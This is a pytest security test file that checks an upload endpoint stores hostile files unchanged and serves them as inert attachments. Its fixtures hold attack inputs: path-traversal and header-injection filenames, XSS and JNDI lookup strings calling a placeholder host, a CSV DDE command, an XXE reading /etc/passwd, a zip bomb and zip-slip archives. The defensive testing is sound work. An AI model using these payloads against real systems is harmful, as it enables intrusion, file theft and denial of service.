"""Files as attackers send them: kept and returned byte for byte, never opened, never shown.

Each is sent as a stream, and fetched as it came (once cleared) and as a sample (in quarantine).
The rows are those of the lessons of others: 4 names that leave the folder, 6 and 7 pages that run
where they are shown, 14 the sender's word for the type, 31 pictures and papers that are programs,
38 bodies that eat the machine, 40 papers that are parsed.
"""

import gzip
import hashlib
import io
import tarfile
import time
import zipfile
import zlib
from urllib.parse import quote

import pytest

from hotline.adapters.file_store import FileStore
from hotline.db import db
from hotline.edge import uploads
from hotline.edge.identity import settings
from hotline.evidence import queries as evidence
from hotline.evidence.models import File
from hotline.evidence.rules import Scan
from hotline.people.rules import Role
from hotline.transaction import transaction
from tests.clamd import EICAR
from tests.web.desk import opened
from tests.web.forms import form_token

NAMES = {
    "up": "../../../../tmp/canary",
    "up and back": "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "absolute": "/etc/cron.d/canary",
    "a drive": "C:\\autoexec.bat",
    "unc": "\\\\203.0.113.9\\share\\x.exe",
    "nul": "log.txt\0.exe",
    "a second header": 'a.txt"\r\nSet-Cookie: canary=1\r\nX-Evil: "',
    "bidi override": "invoice_\u202egnp.exe",
    "right to left": "\u200fתיק\u05be\u202b.pdf\u202c",
    "very long": "長い名前" * 300 + ".log",
    "a device": "CON",
    "a device with an ending": "lpt1.txt",
    "trailing dots": "shell.php. . .",
    "quotes": "a\"b'c`d`.txt",
    "semicolons": "a.txt; filename=\"evil.html\"; filename*=UTF-8''evil.html",
    "emoji and variants": "葛\U000e0100城👩\u200d💻市.jpg",
    "percent": "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.png",
    "empty": "",
    "only dots": "...",
    "a leading dash": "-rf --no-preserve-root *",
    "unicode slashes": "..\u2215..\uff0f..\u2044etc\uff3cpasswd",
    "markup": "<img src=x onerror=alert(1)>.html",
    "a template": "{{7*7}}${jndi:ldap://203.0.113.9/a}.eml",
    "a formula": '=HYPERLINK("http://203.0.113.9","x")',
    "line separators": "a\u2028b\u2029c\u0085d.txt",
    "hidden": ".htaccess",
}


def zipped(*members: tuple[str, bytes]) -> bytes:
    """A zip of these names and contents."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 9, 19, 10, 26, 0)), content)
    return made.getvalue()


def linked() -> bytes:
    """A tar that holds a link out of itself."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        link = tarfile.TarInfo("evidence")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return made.getvalue()


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
HTML = b"<!doctype html><title>x</title><script>document.title='canary'</script>"

CONTENTS = {
    "the test virus": (EICAR, "text/plain"),
    "a page": (HTML, "text/html"),
    "a page in utf-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html;charset=utf-7"),
    "a picture with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'canary\'"/>',
        "image/svg+xml",
    ),
    "a picture that is a script": (b"GIF89a=1/*" + b"\0" * 64 + b"*/;alert(1)//", "image/gif"),
    "a bomb": (zipped(("zeros", b"\0" * 10_000_000)), "application/zip"),
    "a zip that leaves its folder": (zipped(("../../canary", b"x")), "application/zip"),
    "a sheet that reads files": (zipped(("xl/workbook.xml", XXE)), "application/vnd.ms-excel"),
    "a letter with macros": (zipped(("word/vbaProject.bin", b"Sub AutoOpen()")), "application/x"),
    "a paper with a script": (
        b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "application/pdf",
    ),
    "a shortcut": (b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"cmd.exe /c", "x"),
    "a mail": (
        b"From: a@b\r\nTo: all@hotline.example.jp\r\nSubject: x\r\n\r\nX-Evil: 1",
        "message/rfc822",
    ),
    "a body that begins with returns": (b"\r" * 8_000_000, "multipart/form-data; boundary=x"),
    "twenty thousand parts": (
        b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n" * 20_000 + b"--x--",
        "multipart/form-data; boundary=x",
    ),
    "a form of one field": (b"a=" + b"1" * 3_000_000, "application/x-www-form-urlencoded"),
    "bytes of no letter": (b"\xff" * 70_000, "text/plain; charset=utf-8"),
    "a program": (b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0", "application/x-msdownload"),
    "a table with formulas": (b"=cmd|' /C calc'!A0,@SUM(1),\"+1\"\n", "text/csv"),
    "a tar with a link": (linked(), "application/x-tar"),
    "a body that was packed": (gzip.compress(HTML, mtime=0), "text/html"),
    "a packed stream": (zlib.compress(b"\0" * 1_000_000), "application/octet-stream"),
    "json that never closes": (b"[" * 100_000, "application/json"),
    "a type of two lines": (b"plain", "text/html, application/x-evil"),
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_no_name_leaves_its_place(member, ticket, name):
    body = f"of {name!r}".encode()
    file = received(member, ticket, body, name)
    fetched = cleared(member, ticket, file)
    header = fetched.headers["Content-Disposition"]
    outside = [path.name for path in root().rglob("*") if path.is_file()]

    assert fetched.data == body
    assert not set(file.name) & set('/\\\0\r\n"<>|:*?\u202e\u2028\u2029')
    assert 0 < len(file.name) <= 200
    assert header.startswith("attachment; filename=")
    assert header.isascii()
    assert header.isprintable()
    assert "canary" not in fetched.headers.get("Set-Cookie", "")
    assert set(outside) == {file.sha256}
    fetched.close()


@pytest.mark.parametrize("case", CONTENTS.values(), ids=CONTENTS)
def test_every_content_comes_back_as_it_came_and_never_runs(member, desk, ticket, case):
    body, said_type = case
    file = received(member, ticket, body, "evidence.html", said_type)
    sample = desk.send(f"/files/{file.id}/download", {"sample": "1"})
    fetched = cleared(member, ticket, file)

    assert file.sha256 == hashlib.sha256(body).hexdigest()
    assert fetched.data == body
    assert locked_up(fetched)
    assert locked_up(sample)
    assert fetched.content_type == "application/octet-stream"
    assert sample.content_type == "application/zip"
    # Encrypted: neither the name nor the bytes can be read without the word.
    member_of_zip = zipfile.ZipFile(io.BytesIO(sample.data)).infolist()[0]
    assert member_of_zip.flag_bits & 1
    assert member_of_zip.filename == "evidence.html.sample"
    fetched.close()


def test_row_38_what_is_larger_than_may_be_is_refused_before_it_comes(member, ticket, at_most):
    at_most(1)
    begun = time.monotonic()
    answer = put(member, ticket, b"x" * (1024 * 1024 + 1))

    assert answer.status_code == 413
    assert "1 MB" in answer.json["detail"]
    assert time.monotonic() - begun < 2
    assert evidence.of_ticket(ticket.id) == []


def test_row_38_a_stream_without_a_length_ends_at_the_limit(member, ticket, at_most):
    at_most(1)
    answer = put(
        member,
        ticket,
        None,
        input_stream=io.BytesIO(b"x" * 2_000_000),
        environ_overrides={"wsgi.input_terminated": True},
    )

    assert answer.status_code == 413
    assert list(root().rglob("*.*")) == []
    assert evidence.of_ticket(ticket.id) == []


def test_row_38_a_form_of_twenty_thousand_parts_is_refused_at_once(member, ticket):
    body, said_type = CONTENTS["twenty thousand parts"]
    begun = time.monotonic()
    answer = member.client.post(address(ticket), data=body, content_type=said_type)

    assert answer.status_code == 413
    assert time.monotonic() - begun < 2


def test_row_38_a_form_of_one_endless_field_is_refused_at_once(member, ticket):
    head = b"--x\r\nContent-Disposition: form-data; name=file\r\n\r\n"
    answer = member.client.post(
        address(ticket),
        data=head + b"x" * uploads.BODY,
        content_type="multipart/form-data; boundary=x",
    )

    assert answer.status_code == 413


def test_an_empty_stream_is_no_file(member, ticket):
    assert put(member, ticket, b"").status_code == 422
    assert evidence.of_ticket(ticket.id) == []


def test_what_ends_before_its_length_is_not_kept(member, ticket):
    answer = put(member, ticket, b"half", environ_overrides={"CONTENT_LENGTH": "4000"})

    assert answer.status_code == 400
    assert answer.json["status"] == 400
    assert [path for path in root().rglob("*") if path.is_file()] == []


def test_without_the_token_of_a_page_not_a_byte_is_taken(member, ticket):
    answer = put(member, ticket, b"x", token="")

    assert answer.status_code == 400
    assert evidence.of_ticket(ticket.id) == []


def received(member, ticket, body: bytes, name: str, said_type: str = "text/html") -> File:
    """Send it, and give what is on record of it."""
    answer = put(member, ticket, body, name=quote(name), said_type=said_type)
    assert answer.status_code == 201, answer.text
    db.session.expire_all()
    return evidence.of_ticket(ticket.id)[0]


def put(browser, ticket, body, *, name="x.log", said_type="text/html", token=None, **more):
    headers = {
        "X-CSRFToken": form_token(browser.client) if token is None else token,
        "X-File-Name": name,
        "Content-Type": said_type,
        **more.pop("headers", {}),
    }
    return browser.client.put(address(ticket), data=body, headers=headers, **more)


def cleared(member, ticket, file: File):
    """The answer of the download once a scanner has cleared the file."""
    with transaction():
        db.session.get_one(File, file.id).scan = Scan.CLEAN
    return member.send(f"{address(ticket)}/{file.id}")


def locked_up(answer) -> bool:
    """Whether no browser would show or run it, whatever is in it."""
    return (
        answer.status_code == 200
        and answer.headers["Content-Disposition"].startswith("attachment")
        and answer.headers["X-Content-Type-Options"] == "nosniff"
        and "default-src 'none'" in answer.headers["Content-Security-Policy"]
        and "sandbox" in answer.headers["Content-Security-Policy"]
        and answer.headers["Cache-Control"] == "no-store"
    )


def address(ticket) -> str:
    return f"/portal/tickets/{ticket.number}/files"


def root():
    return FileStore.from_url(settings().files_url).root


@pytest.fixture(autouse=True)
def own_store(app, tmp_path):
    """A store of this test alone."""
    before = app.extensions["hotline.settings"]
    own = before.model_copy(update={"files_url": f"file://{tmp_path}/files"})
    app.extensions["hotline.settings"] = own
    yield own
    app.extensions["hotline.settings"] = before


@pytest.fixture
def at_most(app):
    def limit(megabytes: int) -> None:
        now = app.extensions["hotline.settings"]
        app.extensions["hotline.settings"] = now.model_copy(update={"max_upload_mb": megabytes})

    return limit


@pytest.fixture
def ticket(app):
    return opened(member_number="JNX-1001")


@pytest.fixture
def member(be, ticket):
    return be(Role.MEMBER, member_number="JNX-1001")
